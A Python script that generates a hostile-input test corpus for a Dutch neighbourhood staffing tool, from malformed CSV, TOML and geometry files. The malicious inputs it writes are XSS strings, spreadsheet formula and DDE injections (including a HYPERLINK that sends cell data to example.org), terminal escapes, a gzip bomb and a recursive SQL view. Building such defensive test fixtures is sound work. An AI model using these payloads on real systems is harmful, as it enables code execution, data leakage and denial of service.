"""Regenerate the binary and derived files of the hostile-input corpus in ``tests/data/bad``.

Run once with ``python tests/data/make_bad_corpus.py``; the files are committed. Text files
that are easier to read as they are (CSV, TOML) are written here too, so the whole corpus is
reproducible. ``MANIFEST.toml`` (hand-written) says what each file must produce.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
from shapely.geometry import LineString, Polygon, box

ROOT = Path(__file__).resolve().parents[2]
HAARLEM = ROOT / "data" / "haarlem"
BAD = Path(__file__).resolve().parent / "bad"


def _buurten(n: int = 6) -> gpd.GeoDataFrame:
    g = gpd.read_file(HAARLEM / "haarlem_buurten_rd28992.geojson").iloc[:n]
    return g.rename(columns={"statcode": "buurtcode", "statnaam": "buurtnaam"})


def _kwb_rows(codes: list[str]) -> pd.DataFrame:
    kwb = pd.read_csv(HAARLEM / "haarlem_kwb.csv", dtype=str)
    return kwb[kwb["Codering_3"].isin(codes)]


def main() -> None:
    BAD.mkdir(exist_ok=True)
    b = _buurten()
    codes = list(b["buurtcode"])
    kwb = _kwb_rows(codes)
    (BAD / "leeg.csv").write_bytes(b"")
    (BAD / "alleen_kop.csv").write_text(",".join(kwb.columns) + "\n", encoding="utf-8")
    text = kwb.to_csv(index=False)
    (BAD / "afgebroken.csv.gz").write_bytes(gzip.compress(text.encode())[:200])
    (BAD / "scheidingsteken_pipe.csv").write_text(kwb.to_csv(index=False, sep="|"))
    (BAD / "utf16.csv").write_bytes(text.encode("utf-16"))
    latin = kwb.copy()
    latin["WijkenEnBuurten"] = "Café Überweg"
    (BAD / "latin1.csv").write_bytes(latin.to_csv(index=False).encode("latin-1"))
    text_num = kwb.copy()
    text_num.loc[text_num.index[1], "AantalInwoners_5"] = "ongeveer 300"
    (BAD / "tekst_in_getal.csv").write_text(text_num.to_csv(index=False))
    dup = pd.concat([kwb, kwb.iloc[[0]]])
    (BAD / "dubbele_codes.csv").write_text(dup.to_csv(index=False))
    other = kwb.copy()
    other["Codering_3"] = [c.replace("BU0392", "BU0363") for c in other["Codering_3"]]
    (BAD / "andere_gemeente_codes.csv").write_text(other.to_csv(index=False))
    sentinel = kwb.copy()
    for col in sentinel.columns[8:]:
        sentinel[col] = "-99995"
    sentinel["AantalInwoners_5"] = "."
    (BAD / "alle_sentinels.csv").write_text(sentinel.to_csv(index=False))
    # geometry
    b.to_file(BAD / "buurten_ok.geojson", driver="GeoJSON")
    nocrs = json.loads((BAD / "buurten_ok.geojson").read_text())
    nocrs.pop("crs", None)
    (BAD / "rd_zonder_crs.geojson").write_text(json.dumps(nocrs))
    with_dup = pd.concat([b, b.iloc[[0]]])
    gpd.GeoDataFrame(with_dup, crs=28992).to_file(BAD / "dubbele_buurtcodes.gpkg")
    empty = b.copy()
    empty.loc[empty.index[2], "geometry"] = Polygon()
    empty.to_file(BAD / "lege_geometrie.gpkg")
    bow = b.copy()
    x0, y0, x1, y1 = bow.geometry.iloc[0].bounds
    bow.loc[bow.index[0], "geometry"] = Polygon([(x0, y0), (x1, y1), (x1, y0), (x0, y1)])
    bow.to_file(BAD / "zelfdoorsnijdend.gpkg")
    line = b.copy()
    line.loc[line.index[1], "geometry"] = LineString([(x0, y0), (x1, y1)])
    gpd.GeoDataFrame(line, geometry="geometry", crs=28992).to_file(BAD / "lijn_geen_vlak.gpkg")
    evil = b.copy()
    evil.loc[evil.index[0], "buurtnaam"] = '<script>alert("buurt")</script>'
    evil.loc[evil.index[1], "buurtnaam"] = "<img src=x onerror=alert(1)>"
    evil.to_file(BAD / "html_in_namen.geojson", driver="GeoJSON")
    teams = pd.DataFrame(
        {"buurtcode": codes, "team": ['<script>alert("team")</script>'] * 3 + ["Team <b>2</b>"] * 3}
    )
    teams.to_csv(BAD / "html_in_teamnamen.csv", index=False)
    pd.DataFrame({"wijkcode": ["WK039201", "WK039299"], "team": ["A", "B"]}).to_csv(
        BAD / "teams_onbekende_wijk.csv", index=False
    )
    pd.DataFrame({"buurtcode": codes[:4], "team": ["A", "A", "B", "B"]}).to_csv(
        BAD / "teams_buurten_zonder_team.csv", index=False
    )
    # GeoPackages in the CBS layout
    gpkg = b.copy()
    gpkg["gemeentecode"] = "GM0392"
    gpkg["aantalInwoners"] = [int(x) for x in kwb["AantalInwoners_5"].fillna("0")]
    pyogrio.write_dataframe(gpkg, BAD / "gpkg_zonder_buurtenlaag.gpkg", layer="gemeenten")
    pyogrio.write_dataframe(gpkg, BAD / "wijkenbuurten_mini.gpkg", layer="buurten")
    raw = (BAD / "wijkenbuurten_mini.gpkg").read_bytes()
    (BAD / "afgebroken.gpkg").write_bytes(raw[: len(raw) // 3])
    (BAD / "geen_kaart.geojson").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    # a polygon far outside the Netherlands, stated as RD
    far = gpd.GeoDataFrame(
        {"buurtcode": ["BU03920101"], "buurtnaam": ["Ver weg"]},
        geometry=[box(9e6, 9e6, 9.001e6, 9.001e6)],
        crs=28992,
    )
    far.to_file(BAD / "buiten_nederland.gpkg")
    scenarios()
    injection()
    readers()


#: A minimal valid scenario for the Haarlem data: most broken scenarios are one edit of it, so
#: they do not go stale when the embedded default changes (``test_bad_corpus`` checks that the
#: committed files equal what this script makes).
MINIMAL = """naam = "Corpus: minimaal scenario"
budget = 5_920_000
max_wijziging = 0.5

[teamgrootte]
min_personen = 4
max_personen = 14

[milp]
max_seconden = 10.0

[financier.Zvw]
budget = 400_000

[discipline.maatschappelijk_werk]
naam = "Maatschappelijk werk"
kosten_per_uur = 3418.80
huidig = 46.8
min_uren = 16.0
max_uren = 80.0
behoefte = { psychosociaal = 1.0, financieel = 0.5 }

[discipline.werk_inkomen]
naam = "Werk en inkomen"
organisatie = "Gemeente"
kosten_per_uur = 2333.33
huidig = 24.0
min_uren = 8.0
max_uren = 48.0
verplicht = true
behoefte = { financieel = 1.0 }

[discipline.opbouwwerk]
naam = "Opbouwwerk"
kosten_per_uur = 2222.22
huidig = 18.0
min_uren = 8.0
max_uren = 36.0
behoefte = { samenhang = 1.0 }

[discipline.wijkverpleging]
naam = "Wijkverpleging"
kosten_per_uur = 2222.22
gefinancierd_door = "Zvw"
huidig = 18.0
min_uren = 8.0
max_uren = 36.0
behoefte = { zorg = 1.0 }

[discipline.informatie_advies]
naam = "Informatie & advies"
kosten_per_uur = 2333.33
huidig = 24.0
min_uren = 8.0
max_uren = 48.0
behoefte = { toegang = 1.0 }

[[fase]]
jaar = 2017
budget = 5_920_000
"""

MW = 'naam = "Maatschappelijk werk"'
WI = "verplicht = true"
FASE = "[[fase]]\njaar = 2017\nbudget = 5_920_000\n"
DEEP = 3000

#: name -> (old, new) edits of MINIMAL (first occurrence), or the whole text (str).
SCENARIO_EDITS: dict[str, tuple[str, str] | str] = {
    "scenario_negatief_budget.toml": ("budget = 5_920_000", "budget = -100"),
    "scenario_absurd_budget.toml": ("budget = 5_920_000", "budget = 5e13"),
    "scenario_nan_gewicht.toml": (WI, WI + "\ngewicht = nan"),
    "scenario_negatief_gewicht.toml": (
        "behoefte = { samenhang = 1.0 }",
        "behoefte = { samenhang = -2.0 }",
    ),
    "scenario_min_boven_max.toml": ("min_uren = 16.0", "min_uren = 96.0"),
    "scenario_onbekende_discipline.toml": (
        "[[fase]]",
        "[vastgezet.Meerwijk]\nyoga = 12\n\n[[fase]]",
    ),
    "scenario_onbekend_thema.toml": (
        "behoefte = { toegang = 1.0 }",
        "behoefte = { astrologie = 1.0 }",
    ),
    "scenario_kapot.toml": ("[teamgrootte]", "[teamgrootte"),
    "scenario_leeg.toml": "",
    # TOML structure and types
    "scenario_verplicht_tekst.toml": (WI, 'verplicht = "nee"'),
    "scenario_verplicht_getal.toml": (WI, "verplicht = 1"),
    "scenario_financier_hoofdletter.toml": (MW, MW + '\ngefinancierd_door = "Gemeente"'),
    "scenario_financier_spaties.toml": (MW, MW + '\ngefinancierd_door = " GEMEENTE "'),
    "scenario_financier_typfout.toml": (MW, MW + '\ngefinancierd_door = "gemeennte"'),
    "scenario_financier_getal.toml": (MW, MW + "\ngefinancierd_door = 5"),
    "scenario_naam_getal.toml": ('naam = "Corpus: minimaal scenario"', "naam = 5"),
    "scenario_disciplinenaam_getal.toml": (MW, "naam = 5"),
    "scenario_organisatie_lijst.toml": ('organisatie = "Gemeente"', 'organisatie = ["Gemeente"]'),
    "scenario_disciplines_getal.toml": "naam = 'x'\nbudget = 1\ndiscipline = 5\n",
    "scenario_behoefte_getal.toml": ("behoefte = { toegang = 1.0 }", "behoefte = 5"),
    "scenario_behoefte_tekst.toml": (
        "behoefte = { toegang = 1.0 }",
        'behoefte = { toegang = "veel" }',
    ),
    "scenario_behoefte_boolean.toml": (
        "behoefte = { toegang = 1.0 }",
        "behoefte = { toegang = true }",
    ),
    "scenario_discipline_tekst.toml": "naam = 'x'\nbudget = 1\n[discipline]\nwmo = 'x'\n",
    "scenario_diep_lijsten.toml": "naam = 'x'\nbudget = " + "[" * DEEP + "]" * DEEP + "\n",
    "scenario_diep_tabellen.toml": "naam = 'x'\nbudget = "
    + "{a = " * DEEP
    + "1"
    + "}" * DEEP
    + "\n",
    "scenario_diep_koppen.toml": ("[[fase]]", "[discipline.x.behoefte.a.b.c]\nq = 1\n\n[[fase]]"),
    "scenario_fase_jaar_tekst.toml": ("jaar = 2017", 'jaar = "2017"'),
    "scenario_fase_zonder_budget.toml": (FASE, "[[fase]]\njaar = 2017\n"),
    "scenario_teamgrootte_typfout.toml": ("min_personen = 4", "min_persoonen = 4"),
    "scenario_milp_typfout.toml": ("max_seconden = 10.0", "max_secondes = 10.0"),
    "scenario_onbekende_sleutel.toml": ("max_wijziging = 0.5", "max_wijziging = 0.5\nbudgett = 3"),
    "scenario_stuurtekens.toml": (MW, 'naam = "Maatschappelijk\\u000bwerk\\u001b[2J"'),
    "scenario_formule_namen.toml": (MW, 'naam = "=HYPERLINK(\\"https://x.nl\\",\\"mw\\")"'),
    # numeric ranges
    "scenario_gewicht_enorm.toml": (WI, WI + "\ngewicht = 1.7e308"),
    "scenario_behoeftegewicht_enorm.toml": (
        "behoefte = { samenhang = 1.0 }",
        "behoefte = { samenhang = 1.7e308 }",
    ),
    "scenario_kosten_inf.toml": ("kosten_per_uur = 2222.22", "kosten_per_uur = inf"),
    "scenario_huidig_negatief.toml": ("huidig = 24.0", "huidig = -4.0"),
    "scenario_max_uren_enorm.toml": ("max_uren = 48.0", "max_uren = 1e9"),
    "scenario_uren_per_fte_nul.toml": (
        "max_wijziging = 0.5",
        "max_wijziging = 0.5\nuren_per_fte = 0",
    ),
    "scenario_basis_aandeel_groot.toml": (
        "max_wijziging = 0.5",
        "max_wijziging = 0.5\nbasis_aandeel = 1.5",
    ),
    "scenario_complexiteit_negatief.toml": (
        "max_wijziging = 0.5",
        "max_wijziging = 0.5\ncomplexiteit = -1",
    ),
    "scenario_max_wijziging_nan.toml": ("max_wijziging = 0.5", "max_wijziging = nan"),
    "scenario_teamgrootte_breuk.toml": ("min_personen = 4", "min_personen = 2.5"),
    "scenario_max_seconden_enorm.toml": ("max_seconden = 10.0", "max_seconden = 1e9"),
    "scenario_financier_negatief.toml": ("budget = 400_000", "budget = -1"),
    "scenario_fase_budget_absurd.toml": (FASE, "[[fase]]\njaar = 2017\nbudget = 5e13\n"),
    "scenario_budget_tekst.toml": ("budget = 5_920_000", 'budget = "veel"'),
    "scenario_budget_boolean.toml": ("budget = 5_920_000", "budget = true"),
    "scenario_escape_sleutel.toml": (
        "max_wijziging = 0.5",
        'max_wijziging = 0.5\n"a\\u001b[2Jb" = 1',
    ),
}


def scenario_texts() -> dict[str, str]:
    """Every broken scenario file, name -> text (the committed files must equal these)."""
    out: dict[str, str] = {}
    for name, edit in SCENARIO_EDITS.items():
        if isinstance(edit, str):
            out[name] = edit
            continue
        old, new = edit
        assert old in MINIMAL, (name, old)
        out[name] = MINIMAL.replace(old, new, 1)
    size = "[teamgrootte]\nmin_personen = 4\nmax_personen = 14\n"
    milp = "[milp]\nmax_seconden = 10.0\n"
    funder = "[financier.Zvw]\nbudget = 400_000\n"
    for part in (FASE, size, milp, funder):
        assert part in MINIMAL, part
    out |= {  # a key that is not a table must come before the first table
        "scenario_fase_getal.toml": "fase = 5\n" + MINIMAL.replace(FASE, ""),
        "scenario_teamgrootte_getal.toml": "teamgrootte = 5\n" + MINIMAL.replace(size, ""),
        "scenario_milp_tekst.toml": 'milp = "snel"\n' + MINIMAL.replace(milp, ""),
        "scenario_financier_getal_tabel.toml": "financier = 5\n" + MINIMAL.replace(funder, ""),
        "scenario_financier_budget_getal.toml": MINIMAL.replace(funder, "[financier]\nZvw = 5\n"),
        "scenario_huidig_getal.toml": "huidig = 5\n" + MINIMAL,
        "scenario_huidig_team_getal.toml": MINIMAL + "\n[huidig]\nMeerwijk = 5\n",
        "scenario_vastgezet_lijst.toml": MINIMAL + "\n[[vastgezet]]\nx = 1\n",
        "scenario_teamnaam_lang.toml": MINIMAL + f"\n[huidig.{'T' * 250}]\nopbouwwerk = 18.0\n",
    }
    many = "".join(
        f"[discipline.d{i}]\nkosten_per_uur = 1.0\nhuidig = 1.0\nmin_uren = 0.0\n"
        f"max_uren = 8.0\nbehoefte = {{ zorg = 1.0 }}\n\n"
        for i in range(101)
    )
    out["scenario_te_veel_disciplines.toml"] = "naam = 'x'\nbudget = 1000\n\n" + many
    default = (ROOT / "data" / "scenarios" / "haarlem_default.toml").read_text(encoding="utf-8")
    # the infeasible case is a documented number of the default (minimal staffing of Haarlem)
    assert "budget = 5_920_000" in default
    out["scenario_onhaalbaar.toml"] = default.replace("budget = 5_920_000", "budget = 2_000_000", 1)
    return out


#: Theme files: name -> text.
THEME_TEXTS: dict[str, str] = {
    "themas_nan.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = nan }\n',
    "themas_negatief.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = -1.0 }\n',
    "themas_gewicht_enorm.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = 1.7e308 }\n',
    "themas_gewicht_tekst.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = "veel" }\n',
    "themas_gewicht_boolean.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = true }\n',
    "themas_thema_getal.toml": "[thema]\nx = 5\n",
    "themas_naam_getal.toml": "[thema.x]\nnaam = 5\nindicatoren = { eenzaam = 1.0 }\n",
    "themas_disciplines_getal.toml": (
        '[thema.x]\nnaam = "X"\ndisciplines = 5\nindicatoren = { eenzaam = 1.0 }\n'
    ),
    "themas_indicatoren_getal.toml": '[thema.x]\nnaam = "X"\nindicatoren = 5\n',
    "themas_diep.toml": "[thema.x]\nnaam = " + "[" * DEEP + "]" * DEEP + "\n",
    "themas_onbekende_sleutel.toml": (
        '[thema.x]\nnaam = "X"\ngewicht = 2\nindicatoren = { eenzaam = 1.0 }\n'
    ),
    "themas_te_veel.toml": "".join(
        f'[thema.t{i}]\nnaam = "T{i}"\nindicatoren = {{ eenzaam = 1.0 }}\n\n' for i in range(9)
    ),
    "themas_lege_sectie.toml": "thema = []\n",
}


def scenarios() -> None:
    """Write the scenario and theme files of the corpus."""
    for name, text in scenario_texts().items():
        (BAD / name).write_text(text, encoding="utf-8")
    for name, text in THEME_TEXTS.items():
        (BAD / name).write_text(text, encoding="utf-8")
    (BAD / "scenario_cp1252.toml").write_bytes(
        MINIMAL.replace("Corpus: minimaal", "Café Überweg").encode("cp1252")
    )
    (BAD / "themas_cp1252.toml").write_bytes(
        '[thema.x]\nnaam = "Financiële problemen"\nindicatoren = { eenzaam = 1.0 }\n'.encode(
            "cp1252"
        )
    )


def injection() -> None:
    """Team and buurt names that are formulas, control characters or terminal escapes."""
    codes = list(_buurten()["buurtcode"])
    haarlem = pd.read_csv(HAARLEM / "werkgebieden_indicatief.csv", dtype=str)
    teams = sorted(haarlem["team"].unique())
    formulas = [
        '=HYPERLINK("https://example.org/?"&A2,"Noord")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+31 6 12345678",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        " =1+1",
    ]
    rename = {t: (formulas[i] if i < len(formulas) else t) for i, t in enumerate(teams)}
    haarlem.assign(team=haarlem["team"].map(rename)).to_csv(BAD / "teams_formules.csv", index=False)
    controls = ["Noord\x0bOost", "Zuid\x1b[2J\x1b[31mrood", "West\x07bel", "Oost\u202egnirts"]
    rename = {t: (controls[i] if i < len(controls) else t) for i, t in enumerate(teams)}
    haarlem.assign(team=haarlem["team"].map(rename)).to_csv(
        BAD / "teams_stuurtekens.csv", index=False
    )
    b = _buurten()
    b.loc[b.index[0], "buurtnaam"] = '=HYPERLINK("https://example.org","klik")'
    b.loc[b.index[1], "buurtnaam"] = "@SUM(A1:A9)"
    b.loc[b.index[2], "buurtnaam"] = "Buurt\x0b\x1b[2Jmet stuurtekens"
    b.to_file(BAD / "buurten_formules.geojson", driver="GeoJSON")
    pd.DataFrame({"buurtcode": codes, "team": ["=1+1"] * 3 + ["Team\x1b]0;titel\x07"] * 3}).to_csv(
        BAD / "teams_formules_klein.csv", index=False
    )


def readers() -> None:
    """Tables, encodings, compression and geometry the readers must read right or refuse."""
    import sqlite3

    b = _buurten()
    kwb = _kwb_rows(list(b["buurtcode"]))
    # a column present twice, with different values
    text = kwb.to_csv(index=False).splitlines()
    header = text[0].replace("AantalInwoners_5,", "AantalInwoners_5,AantalInwoners_5,", 1)
    col = text[0].split(",").index("AantalInwoners_5")
    rows = []
    for line in text[1:]:
        cells = line.split(",")
        cells.insert(col + 1, str(int(cells[col]) * 10))
        rows.append(",".join(cells))
    (BAD / "dubbele_kolom.csv").write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    huge = kwb.copy()
    huge.loc[huge.index[0], "AantalInwoners_5"] = "1e308"
    (BAD / "getal_1e308.csv").write_text(huge.to_csv(index=False), encoding="utf-8")
    wide = kwb.copy()
    wide.loc[wide.index[0], "Codering_3"] = "BU０３９２0101"
    (BAD / "volbreed_code.csv").write_text(wide.to_csv(index=False), encoding="utf-8")
    # Dutch Excel: ';', decimal comma, thousands point, Windows-1252
    dutch = kwb[
        [
            "Codering_3",
            "WijkenEnBuurten",
            "AantalInwoners_5",
            "k_65JaarOfOuder_12",
            "GemiddeldInkomenPerInwoner_78",
        ]
    ].copy()
    dutch["AantalInwoners_5"] = [f"{int(v):,}".replace(",", ".") for v in dutch["AantalInwoners_5"]]
    dutch["GemiddeldInkomenPerInwoner_78"] = dutch["GemiddeldInkomenPerInwoner_78"].str.replace(
        ".", ",", regex=False
    )
    dutch["WijkenEnBuurten"] = dutch["WijkenEnBuurten"] + " (café)"
    (BAD / "excel_nl_cp1252.csv").write_bytes(
        dutch.to_csv(index=False, sep=";", lineterminator="\r\n").encode("cp1252")
    )
    # decimal commas in one column, decimal points in another: "2.140" cannot be read
    mixed = dutch.copy()
    mixed["k_65JaarOfOuder_12"] = [f"{int(v)}.5" for v in kwb["k_65JaarOfOuder_12"]]
    (BAD / "punt_dubbelzinnig.csv").write_bytes(mixed.to_csv(index=False, sep=";").encode())
    plain = kwb.to_csv(index=False).encode()
    (BAD / "kwb_hoofdletters.CSV.GZ").write_bytes(gzip.compress(plain, mtime=0))
    (BAD / "kwb_gzip_zonder_extensie.csv").write_bytes(gzip.compress(plain, mtime=0))
    # 110 MB of text in about 110 KB: refused while unpacking, never unpacked whole
    with gzip.GzipFile(BAD / "bom.csv.gz", "wb", compresslevel=9, mtime=0) as fh:
        fh.write(b"Codering_3,AantalInwoners_5\n")
        for _ in range(110):
            fh.write(b"0" * 2**20)
    # a GeoPackage whose buurten layer is a view over an endless recursive query
    path = BAD / "view_eindeloos.gpkg"
    path.unlink(missing_ok=True)
    pyogrio.write_dataframe(_buurten().assign(gemeentecode="GM0392"), path, layer="echt")
    con = sqlite3.connect(path)
    con.execute(
        "CREATE VIEW buurten AS WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) "
        "SELECT e.* FROM echt AS e, r"
    )
    con.execute(
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
        "VALUES ('buurten', 'features', 'buurten', 28992)"
    )
    con.execute(
        "INSERT INTO gpkg_geometry_columns VALUES ('buurten', 'geom', 'POLYGON', 28992, 0, 0)"
    )
    con.commit()
    con.close()
    attrs = pd.DataFrame({"buurtcode": list(b["buurtcode"]), "gemeentecode": "GM0392"})
    path = BAD / "attribuuttabel.gpkg"
    path.unlink(missing_ok=True)
    pyogrio.write_dataframe(attrs, path, layer="buurten", driver="GPKG")
    points = b.copy()
    points["geometry"] = b.geometry.representative_point()
    points.to_file(BAD / "alleen_punten.geojson", driver="GeoJSON")


if __name__ == "__main__":
    main()
